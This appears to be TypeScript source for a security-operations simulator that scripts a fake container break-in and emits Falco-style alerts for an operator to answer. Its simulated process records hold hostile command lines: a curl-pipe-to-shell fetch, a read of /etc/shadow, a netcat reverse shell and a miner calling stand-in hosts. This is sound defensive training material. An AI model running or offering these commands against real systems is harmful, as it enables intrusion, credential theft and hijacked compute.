import type { Pod } from '../cluster.ts';
import { dropEvent, type Process, processEvent } from '../falco-events.ts';
import type { Host } from '../hosts.ts';
import { beacon, loadBeacon } from '../salt-events.ts';
import type { Act, Stage, Telling } from '../stage.ts';

const commandServer = '203.0.113.7';
const minerPool = '198.51.100.23';
/** So many looks, a second apart, the story stays with an attack that was answered: time to take it back. */
const aftertaste = 60;

/** What the operator can read off the events, and what to press now. */
const captions = {
	free: 'it calls out until you answer · a approves the card · 2 the queue · r rejects',
	isolated: 'isolated: it calls out no more · b takes it back · 4 the audit',
	locked: 'its host is locked down: nothing gets out · b takes it back · 4 the audit',
	gone: 'the pod is gone, another took its place · 3 the run · 4 the audit',
	nowhere: 'nothing is left to attack · b takes back what you did · 4 the audit',
} as const;

type Reach = Exclude<keyof typeof captions, 'nowhere'>;

/** A web shell becomes a shell in a container, calls out, and mines, for as long as what the operator does lets it. */
export const attack: Act = {
	caption: 'an attack in payments · the card below says what to do · a approves it',
	*play(stage) {
		const pod = victim(stage);
		if (!pod) {
			stage.caption(captions.nowhere);
			yield 4000;
			return;
		}
		yield* breakIn(stage, pod);
		yield* callOut(stage, pod);
		yield* settle(stage, pod);
		yield* persist(stage, pod);
	},
};

/** A pod of payments that nobody cut off, on web12 while there is one. */
function victim({ cluster, hosts }: Stage): Pod | undefined {
	const free = cluster.pods.filter(
		({ ns, node, isIsolated }) =>
			ns === 'payments' && !isIsolated && !hostOf({ hosts }, node).isLocked,
	);
	return free.find(({ node }) => node === 'web12') ?? free[0];
}

function* breakIn(stage: Stage, pod: Pod): Telling {
	runs(stage, pod, webShell, {
		rule: 'Web Server Spawned Shell',
		priority: 'Critical',
		text: 'Web server spawned shell | web_server=nginx',
		tags: ['T1505.003', 'container', 'mitre_persistence', 'process'],
	});
	yield 1400;
	runs(stage, pod, reader, {
		rule: 'Read sensitive file untrusted',
		priority: 'Warning',
		text: 'Sensitive file opened for reading by non-trusted program | file=/etc/shadow',
		tags: ['T1555', 'container', 'filesystem', 'mitre_credential_access'],
		fields: { 'evt.type': 'openat', 'fd.name': '/etc/shadow' },
	});
	yield 1100;
	runs(stage, pod, shell, {
		rule: 'Terminal shell in container',
		priority: 'Critical',
		text: 'A shell was spawned in a container with an attached terminal',
		tags: ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell'],
	});
	yield 160;
}

function* callOut(stage: Stage, pod: Pod): Telling {
	connects(stage, pod, shell, commandServer, 4444);
	yield 900;
	for (let times = 0; times < 4; times++) {
		runs(stage, pod, netcat, {
			rule: 'Launch Suspicious Network Tool in Container',
			priority: 'Warning',
			text: 'Network tool launched in container',
			tags: ['T1595', 'container', 'mitre_execution', 'network', 'process'],
		});
		yield 450;
		connects(stage, pod, netcat, commandServer, 4444);
		yield 350;
	}
	const change = { path: '/etc/passwd', change: 'IN_MODIFY' };
	beacon(stage, hostOf(stage, pod.node), 'inotify', change, '/etc/passwd');
	yield 1200;
}

function* settle(stage: Stage, pod: Pod): Telling {
	stage.falco(dropEvent(pod.node, 214_880, 2104));
	yield 600;
	runs(stage, pod, miner, {
		rule: 'Drop and execute new binary in container',
		priority: 'Critical',
		text: 'Executing binary not part of base image | proc_exe=/tmp/.x/kworkerds',
		tags: ['PCI_DSS_11.5.1', 'TA0003', 'container', 'mitre_persistence', 'process'],
		fields: { 'proc.exe_ino.ctime_duration_proc_start': 18_446_744_073_670_260_079n },
	});
	for (let times = 0; times < 5; times++) {
		yield 800;
		connects(stage, pod, miner, minerPool, 3333);
		loadBeacon(stage, hostOf(stage, pod.node));
	}
}

/** It goes on while nobody answers; an answer is watched for a while, and taken back it goes on again. */
function* persist(stage: Stage, pod: Pod): Telling {
	let said: Reach | undefined;
	let calm = 0;
	for (let round = 0; round < stage.patience && calm < aftertaste; round++) {
		const reach = reachOf(stage, pod);
		if (reach !== said) stage.caption(captions[reach]);
		said = reach;
		calm = reach === 'free' ? 0 : calm + 1;
		connects(stage, pod, miner, minerPool, 3333);
		yield reach === 'free' ? 900 : 1000;
	}
	yield 900;
}

function reachOf(stage: Stage, pod: Pod): Reach {
	if (!stage.cluster.pods.includes(pod)) return 'gone';
	if (pod.isIsolated) return 'isolated';
	return hostOf(stage, pod.node).isLocked ? 'locked' : 'free';
}

type Finding = Parameters<typeof processEvent>[2];

/** Something runs in the pod, as long as the pod is there. */
function runs(stage: Stage, pod: Pod, process: Process, finding: Finding): void {
	if (!stage.cluster.pods.includes(pod)) return;
	stage.falco(processEvent({ node: pod.node, pod }, process, finding));
}

/** The pod reaches an address outside: neither where it is isolated nor where its host is locked down. */
function connects(stage: Stage, pod: Pod, process: Process, ip: string, port: number): void {
	if (reachOf(stage, pod) !== 'free') return;
	const local = `${pod.address}:${stage.chance.whole(40_000, 60_000)}`;
	runs(stage, pod, process, {
		rule: 'Outbound Connection to C2 Servers',
		priority: 'Critical',
		text: `Outbound connection to C2 server | ip=${ip} connection=${local}->${ip}:${port}`,
		tags: ['T1071', 'container', 'mitre_command_and_control', 'network'],
		fields: {
			'evt.type': 'connect',
			'fd.name': `${local}->${ip}:${port}`,
			'fd.rip': ip,
			'fd.rport': port,
			'fd.sip': ip,
		},
	});
}

/** The host of a node's name. */
function hostOf({ hosts }: Pick<Stage, 'hosts'>, node: string): Host {
	return Object.values(hosts).find(({ id }) => id === node) ?? hosts.web12;
}

const asWebServer = { user: 'www-data', uid: 33 };
const asRoot = { user: 'root', uid: 0 };
const webShell: Process = {
	...asWebServer,
	name: 'sh',
	line: `sh -c id; curl -s http://${commandServer}/x.sh | sh`,
	parent: 'nginx',
};
const reader: Process = { ...asRoot, name: 'cat', line: 'cat /etc/shadow', parent: 'sh' };
const shell: Process = { ...asRoot, name: 'bash', line: 'bash -i', parent: 'runc' };
const netcat: Process = {
	...asRoot,
	name: 'nc',
	line: `nc -e /bin/sh ${commandServer} 4444`,
	parent: 'bash',
};
const miner: Process = {
	...asRoot,
	name: 'kworkerds',
	line: `kworkerds -o stratum+tcp://${minerPool}:3333`,
	parent: 'bash',
};
